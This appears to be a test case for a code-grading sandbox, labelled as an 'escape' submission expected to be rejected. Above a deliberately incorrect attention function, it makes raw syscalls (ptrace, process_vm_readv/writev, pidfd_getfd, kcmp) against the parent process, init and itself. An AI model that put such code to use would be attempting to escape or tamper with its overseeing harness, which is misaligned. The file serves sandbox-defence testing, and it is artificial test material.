# problem: sdpa
# class: escape
# expect: rejected
# evidence: next submission disturbed
import ctypes
import os
import torch

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    result = libc.syscall(number, *map(ctypes.c_long, arguments))
    print(number, result, ctypes.get_errno())


page = ctypes.create_string_buffer(4096)
vector = (ctypes.c_size_t * 2)(ctypes.addressof(page), 4096)
for pid in (os.getppid(), 1, os.getpid()):
    call(101, 16, pid, 0, 0)
    call(101, 0x4206, pid, 0, 0)
    for number in (310, 311):
        call(number, pid, ctypes.addressof(vector), 1, ctypes.addressof(vector), 1, 0)
    call(434, pid, 0)
    call(438, 3, 0, 0)
    call(312, pid, os.getpid(), 0, 0, 0)


def scaled_dot_product_attention(q, k, v, mask=None):
    weights = torch.softmax(q @ k.transpose(-2, -1), dim=-1)  # no scale, no mask: wrong
    return weights @ v, weights
